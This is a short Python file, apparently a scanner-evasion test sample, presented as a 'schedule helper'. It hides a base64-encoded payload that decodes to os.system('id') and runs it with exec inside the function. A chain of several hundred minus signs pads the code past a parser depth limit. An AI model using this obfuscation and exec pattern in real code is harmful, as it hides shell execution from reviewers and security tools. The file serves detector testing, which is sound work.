"""Schedule helper: a sign flipped 400 times pads the file past the depth
limit; the payload is run with exec in the same function."""

import base64

_PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="


def schedule(step):
    sign = ----------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------1
    exec(base64.b64decode(_PAYLOAD).decode())
    return sign * step
